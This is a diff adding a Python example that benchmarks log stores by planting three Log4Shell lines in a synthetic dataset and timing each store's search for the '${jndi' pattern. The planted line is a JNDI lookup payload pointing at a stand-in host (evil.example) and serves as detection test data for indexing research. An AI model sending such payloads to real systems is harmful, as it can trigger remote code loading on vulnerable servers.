@@ -1,0 +1,28 @@
+"""Log4Shell hunt (paper §1): find "${jndi" patterns across every store,
+compare candidates touched and wall time — the end-to-end argument for
+probabilistic indexing.
+
+    PYTHONPATH=src python examples/log_search.py
+"""
+import time
+
+from repro.logstore.datasets import generate_dataset
+from repro.logstore.store import ALL_STORES
+
+ds = generate_dataset("hunt", n_lines=20000, n_sources=32, seed=3)
+# plant three attack lines
+attack = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
+lines = list(ds.lines)
+for pos in (1234, 9876, 18765):
+    lines[pos] = attack
+
+for name, cls in ALL_STORES.items():
+    store = cls(batch_lines=128)
+    store.ingest(lines)
+    store.finish()
+    t0 = time.perf_counter()
+    r = store.query_contains("${jndi")
+    dt = (time.perf_counter() - t0) * 1e3
+    print(f"{name:9s} found {len(r.matches)} attacks, touched "
+          f"{len(r.candidate_batches):4d}/{r.batches_total} batches "
+          f"in {dt:7.2f} ms  (index {store.stats.index_bytes/1e3:8.1f} KB)")
